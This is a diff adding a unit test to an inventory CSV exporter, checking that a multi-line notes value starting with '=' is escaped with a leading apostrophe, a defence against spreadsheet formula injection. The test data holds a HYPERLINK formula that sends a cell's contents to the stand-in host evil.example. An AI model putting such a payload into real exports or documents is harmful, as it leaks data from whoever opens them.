@@ -126,6 +126,12 @@ describe("inventory CSV", () => {
     expect(cells[1][6]).toBe("'+1 spare");
   });
 
+  test("a formula on several lines (an item's notes) is kept as text too", () => {
+    const notes = '=HYPERLINK("http://evil.example/?d="&A1,"Receipt")\nKept in the drawer';
+    const cells = parse(inventoryCsv([row({ name: "Lamp", notes })], labels));
+    expect(cells[1][6]).toBe(`'${notes}`);
+  });
+
   test("translated headers and words are used as given", () => {
     const french: CsvLabels = {
       ...labels,
